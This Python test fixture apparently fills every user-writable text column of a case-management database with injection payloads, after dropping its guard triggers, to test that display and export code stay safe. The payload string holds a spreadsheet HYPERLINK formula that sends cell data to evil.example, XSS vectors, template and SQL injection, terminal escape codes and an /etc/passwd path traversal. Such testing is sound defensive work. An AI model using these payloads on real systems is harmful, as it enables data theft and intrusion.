"""The county of scoped_casework with an attack in every text that anybody can write.

The texts are put into the tables themselves, past every check on the way in, so that what shows
and what exports them has to hold alone. Every column of text is in exactly one of the lists here.
"""

from __future__ import annotations

import itertools
import json
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import sqlalchemy as sa
from conftest import PASSWORD
from scoped_casework import Values, casework_workspace
from scoped_county import CANARY

from geoinspect.store import logins, people
from geoinspect.store.schema import Base
from geoinspect.store.workspace import Workspace

# A product that stands nowhere by itself, and what a template would make of it.
SUM, DONE = "7919*6113", str(7919 * 6113)
# Set by a script that ran, whichever way it came in.
FLAG = "attackRan"
STARTS = ("=", "+", "-", "@", "\t=", "\r=")
BODY = (
    f"""HYPERLINK("http://evil.example/?"&A1,"x")"><img src=x onerror={FLAG}=1>"""
    f"""'><svg onload={FLAG}=1><script>{FLAG}=1</script></script></title></textarea>"""
    f"""{{{{{SUM}}}}}${{{SUM}}}#{{{SUM}}}<%={SUM}%>{{%raw%}}javascript:{FLAG}=1//%s%n%(x)s"""
    f"""\x1b]0;x\x07\x1b[2J\x08`;{FLAG}=1;'-{FLAG}=1-'\\' ]]> --> &lt; \u202e\u2028\u2029\ufeff../../etc/passwd"""
    """\r\nX-Planted: 1 ' OR 1=1;-- """
)

# People write these: each holds an attack.
FREE = frozenset(
    [
        "area.name",
        "audit.actor",
        "audit.subject",
        "campaign.name",
        "case.title",
        "case.opened_by",
        "case_event.actor",
        "case_link.label",
        "case_link.by",
        "claim.made_by",
        "cross_check.seed",
        "cross_check.drawn_by",
        "detection_rate.source",
        "detection_rate.set_by",
        "evidence.name",
        "evidence.note",
        "evidence.added_by",
        "file.name",
        "footprint.name",
        "incoming.name",
        "landmark.name",
        "login.agent",
        "login.address",
        "patch_label.actor",
        "patrol.team",
        "person.code",
        "photo.name",
        "photo.team",
        "plan.name",
        "plan.made_by",
        "rank_model.name",
        "rank_model.made_by",
        "rank_model_use.used_by",
        "risk_edit.note",
        "risk_edit.set_by",
        "risk_rule.set_by",
        "setting.set_by",
        "site.code",
        "site.name",
        "site.note",
        "site.made_by",
        "site_answer.by",
        "site_answer.note",
        "survey.name",
        "survey.detector",
        "target.code",
        "target.note",
        "target_list.name",
        "target_list.added_by",
        "tip.text",
        "tip.place",
        "tip.answered_by",
        "token.label",
        "track.name",
        "track.team",
        "trial.made_by",
        "unit.name",
        "unit.code",
        "upload.name",
        "user.name",
        "zone.name",
        "zone.licence_no",
    ]
)
# What people wrote is inside: every text that the builders marked or wrote in Chinese.
INSIDE = frozenset(
    [
        "audit.details",
        "case.facts",
        "case_event.details",
        "case_link.details",
        "claim.details",
        "cross_check.cells",
        "cross_check.drawn_from",
        "evidence.facts",
        "incoming.error",
        "incoming.tags",
        "job.args",
        "job.error",
        "job.phase",
        "job.result",
        "look.basis",
        "patch.reasons",
        "photo.report",
        "plan.asked",
        "plan.figures",
        "plan.routes",
        "rank_model.figures",
        "rank_model.labels",
        "rank_model_use.fit",
        "risk_rule.values",
        "setting.value",
        "site.checklist",
        "site_answer.answers",
        "site_answer.files",
        "survey.report",
        "target_list.details",
        "tip.details",
        "tip.files",
        "track.choices",
        "track.decision",
        "track.doubts",
        "track.people",
        "track.report",
        "trial.result",
        "trial.targets",
        "upload.result",
    ]
)
# Words of the program, numbers it gives, hashes, times: nobody can write anything else there.
# Codes of units and areas stand for the tables that they name.
OURS = re.compile(
    r"""(case|tip)\.(number|state|reward|client_id|claim_hash|state_since|opened_at|origin)
    |.*\.(.*_at|at|kind|mode|method|role|state|sha256|hash|weight|level|scope|status|expires)
    |.*\.(unit_code|parent_code|area_code|crs|client_id|figures_hash|data_hash|lease|lease_until)
    |.*\.(stage|visibility|first_time|last_time|taken|happened|locked_until|arrived|action)
    |case_event\.(from|to)_state|login\.(id|ended_why)|login_try\.key|patch_label\.(label|reason)
    |patch_label\.detector|patrol\.purpose|risk_rule\.factor|setting\.name|upload\.id|incoming\.id
    |incoming\.receipt_id|job\.(subject|key|worker)|track\.(format|datum_found|datum_used)|area\.code
    |user\.(password_hash|former_hashes|totp_secret)""",
    re.VERBOSE,
)
# Tables that the builders leave empty, with what a row of each needs beside its attacks.
_ROWS: dict[str, dict[str, Any]] = {
    "claim": {"details": {}},
    "detection_rate": {"method": "foot", "width_m": 20.0},
    "footprint": {"method": "satellite"},
    "incoming": {"id": "0" * 32, "state": "open", "tags": {"team": CANARY}},
    "landmark": {"kind": "house"},
    "rank_model": {"labels": {}, "figures": {}},
    "rank_model_use": {"fit": {"fits": False, "beyond": 0.5, "shift": 9.0}},
    "risk_edit": {"multiplier": 2.0},
    "risk_rule": {"factor": "former", "values": {"note": CANARY, "source": CANARY}},
    "setting": {"name": "recheck_days", "value": "14"},
    "token": {"scope": "read"},
    "trial": {"method": "foot", "stage": "flower", "targets": [], "result": {}},
    "patch_label": {"label": "poppy", "reason": ""},
}
_SERIAL = itertools.count(1)
_CJK = re.compile("[\u4e00-\u9fff]")


def payload(column: str = "") -> str:
    """Return an attack of its own; the start of a formula changes from one to the next."""
    n = next(_SERIAL)
    return f"{STARTS[n % len(STARTS)]}{BODY}{column}#{n}"


def text_columns() -> Iterator[sa.Column[Any]]:
    """Yield every column that can hold text, by itself or inside JSON."""
    other = (sa.Integer, sa.Float, sa.Boolean, sa.Date, sa.DateTime, sa.LargeBinary)
    for table in Base.metadata.sorted_tables:
        for column in table.columns:
            if not isinstance(column.type, other) and column.name != "geometry":
                yield column


def hostile_workspace(folder: Path) -> tuple[Path, dict[str, Values]]:
    """Make the county; return its folder and its records as casework_workspace does."""
    made, records = casework_workspace(folder)
    with Workspace.open(made) as workspace:
        with workspace.database.writing() as session:
            admin = people.needed_user(session, "admin-all")
            logins.start(session, user_id=admin.id, address="127.0.0.1", agent="x")
            _fill_empty(session, admin.id)
        workspace.database.close()
    database = sqlite3.connect(made / "geoinspect.db")
    guards = database.execute(
        "SELECT name FROM sqlite_master WHERE type='trigger' AND sql LIKE '%RAISE(%'"
    )
    for (name,) in guards.fetchall():
        database.execute(f'DROP TRIGGER "{name}"')
    for column in text_columns():
        _attack(database, column.table.name, column.name)
    database.commit()
    database.close()
    return made, records


def _fill_empty(session: sa.orm.Session, user_id: int) -> None:
    """Put a row into each table that has none."""
    for table in Base.metadata.sorted_tables:
        if table.name not in _ROWS or session.scalar(sa.select(sa.func.count()).select_from(table)):
            continue
        like = session.execute(
            sa.text("SELECT geometry, west, east, south, north FROM target LIMIT 1")
        ).one()
        shaped = dict(zip(("geometry", "west", "east", "south", "north"), like, strict=True))
        values: dict[str, Any] = {}
        for column in table.columns:
            if column.name in shaped:
                values[column.name] = shaped[column.name]
            elif not column.nullable and not (column.primary_key and column.name == "id"):
                values[column.name] = user_id if column.name == "user_id" else _plain(column)
        values |= _ROWS[table.name]
        for name, value in values.items():
            if isinstance(value, dict | list) or (table.name, name) == ("setting", "value"):
                values[name] = json.dumps(value)
        names = ", ".join(f'"{name}"' for name in values)
        marks = ", ".join(f":{name}" for name in values)
        session.execute(sa.text(f'INSERT INTO "{table.name}" ({names}) VALUES ({marks})'), values)


def _plain(column: sa.Column[Any]) -> object:
    """Return some value of a column's kind."""
    if isinstance(column.type, sa.LargeBinary):
        return b""
    if isinstance(column.type, sa.Integer | sa.Float | sa.Boolean):
        return 1
    if isinstance(column.type, sa.Date):
        return "2026-05-14"
    if isinstance(column.type, sa.JSON):
        return "{}"
    if column.name.endswith(("_at", "at", "expires")):
        return "2027-05-14T04:00:00.000Z"
    return "0" * 16


def _attack(database: sqlite3.Connection, table: str, column: str) -> None:
    name = f"{table}.{column}"
    if name not in FREE | INSIDE:
        return
    rows = database.execute(f'SELECT rowid, "{column}" FROM "{table}"').fetchall()
    for row, value in rows:
        if name in INSIDE:
            if value is None:
                continue
            new = json.dumps(_inside(json.loads(value), name), ensure_ascii=False, sort_keys=True)
        elif name == "user.name" and value.endswith("-all"):
            continue
        else:
            new = payload(name)
        database.execute(f'UPDATE "{table}" SET "{column}"=? WHERE rowid=?', (new, row))
        if name == "unit.code":
            _follow(database, value, new)


def _follow(database: sqlite3.Connection, old: str, new: str) -> None:
    """Give a unit's new code to all that names it."""
    for column in text_columns():
        if column.name == "unit_code" or (column.table.name, column.name) == (
            "unit",
            "parent_code",
        ):
            database.execute(
                f'UPDATE "{column.table.name}" SET "{column.name}"=? WHERE "{column.name}"=?',
                (new, old),
            )


def _inside(value: object, name: str) -> object:
    if isinstance(value, dict):
        return {key: _inside(one, name) for key, one in value.items()}
    if isinstance(value, list):
        return [_inside(one, name) for one in value]
    if isinstance(value, str) and (CANARY in value or _CJK.search(value)):
        return payload(name)
    return value


__all__ = ["PASSWORD", "hostile_workspace", "payload", "text_columns"]
